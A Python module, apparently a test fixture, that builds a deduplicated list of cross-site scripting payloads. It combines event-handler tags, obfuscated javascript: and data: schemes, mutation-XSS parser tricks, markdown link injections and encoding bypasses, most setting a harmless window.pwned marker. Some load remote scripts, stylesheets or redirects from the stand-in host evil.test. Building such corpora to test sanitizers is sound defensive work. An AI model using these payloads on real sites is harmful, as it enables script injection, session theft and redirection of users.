"""Text that would run as a script where text is taken for markup: each of them sets `pwned`, were it ever run.

Made of parts, so that no way of writing a thing is left out for one place and tried for another.
"""

from __future__ import annotations

RUN = "window.pwned=1"
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
TAGS = (
    "<img src=x {e}={j}>",
    "<svg {e}={j}>",
    "<body {e}={j}>",
    "<input autofocus {e}={j}>",
    "<details open {e}={j}><summary>x</summary></details>",
    "<video {e}={j}><source {e}={j}></video>",
    "<iframe {e}={j}></iframe>",
    "<a href=# {e}={j} autofocus tabindex=0>x</a>",
    "<math {e}={j}><mtext>x</mtext></math>",
    "<p style='animation:x' {e}={j}>x</p>",
    "<object data=x {e}={j}></object>",
    "<marquee {e}={j}>x</marquee>",
)
WRITINGS = (
    "{t}",
    '"><{u}',
    "'\"--></style></script></textarea></title>{t}",
    "`{t}`<{u}",
)
SCHEMES = (
    "javascript:{j}",
    "JaVaScRiPt:{j}",
    " javascript:{j}",
    "java\tscript:{j}",
    "java\nscript:{j}",
    "javascript&colon;{j}",
    "&#106;avascript:{j}",
    "&#x6a;avascript:{j}",
    "\x01javascript:{j}",
    "vbscript:{j}",
    "data:text/html,<script>{j}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{j}'/>",
    "//evil.test/x",
    "http://evil.test/{j}",
)
LINKS = (
    "[x]({s})",
    "![x]({s})",
    "<{s}>",
    "[x][y]\n\n[y]: {s}",
    '<a href="{s}">x</a>',
    '<img src="{s}">',
    '<form action="{s}"><button>x</button></form>',
    '<iframe src="{s}"></iframe>',
    '[x]({s} "title\\" onclick={j} x=\\"")',
)
SINGLES = (
    "<script>{j}</script>",
    "<script src=//evil.test/x.js></script>",
    "<SCRIPT\n>{j}</SCRIPT\n>",
    "<scr<script>ipt>{j}</scr</script>ipt>",
    "<svg><script>{j}</script></svg>",
    "<svg><script href=data:,{j} /></svg>",
    "<svg><animate onbegin={j} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:{j}><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{j}</script></svg>#x\"></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={j}>">',
    '<noscript><p title="</noscript><img src=x onerror={j}>">',
    "<template><img src=x onerror={j}></template>",
    '<textarea><img title="</textarea><img src=x onerror={j}>"></textarea>',
    '<xmp><p title="</xmp><svg/onload={j}>"></xmp>',
    "<style>@import '//evil.test/x.css';*{{background:url(//evil.test/x)}}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=preload as=script href=//evil.test/x.js>",
    "<meta http-equiv=refresh content='0;url=javascript:{j}'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/>",
    "<embed src=javascript:{j}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<img srcset='//evil.test/x 1x' src=x>",
    "<video poster=//evil.test/x></video>",
    "<audio src=//evil.test/x autoplay></audio>",
    '<div style="background:url(//evil.test/x)">x</div>',
    "<button formaction=javascript:{j}>x</button>",
    "<isindex action=javascript:{j} type=image>",
    '<!--<img src="--><img src=x onerror={j}//">',
    "<![CDATA[<img src=x onerror={j}>]]>",
    '<?xml version="1.0"?><img src=x onerror={j}>',
    "&lt;script&gt;{j}&lt;/script&gt;",
    "\\x3cscript\\x3e{j}\\x3c/script\\x3e",
    "\u003cimg src=x onerror={j}\u003e",
    "＜script＞{j}＜/script＞",
    "{{{{constructor.constructor('{j}')()}}}}",
    "${{{j}}}",
    "```<img src=x onerror={j}>\ncode\n```",
    "```html\n<script>{j}</script>\n```",
    '~~~"><img src=x onerror={j}>\ncode\n~~~',
    "`<img src=x onerror={j}>`",
    "| a | b |\n|---|---|\n| <img src=x onerror={j}> | [x](javascript:{j}) |",
    "> <img src=x onerror={j}>\n> [x](javascript:{j})",
    "- <script>{j}</script>\n  1. <img src=x onerror={j}>",
    "# <img src=x onerror={j}>",
    "<a id=location href=javascript:{j}>x</a><form id=document><input name=cookie></form>",
    "\u202e<img src=x onerror={j}>\u2066",
    "\x1b]8;;javascript:{j}\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror={j}>\x1b[0m",
)


def payloads() -> list[str]:
    """All of them, each once."""
    tags = [tag.format(e=event, j=RUN) for tag in TAGS for event in EVENTS]
    written = [WRITINGS[n % len(WRITINGS)].format(t=tag, u=tag[1:]) for n, tag in enumerate(tags)]
    schemes = [scheme.format(j=RUN) for scheme in SCHEMES]
    links = [link.format(s=scheme, j=RUN) for link in LINKS for scheme in schemes]
    singles = [single.format(j=RUN) for single in SINGLES]
    return list(dict.fromkeys([*singles, *tags, *written, *links]))
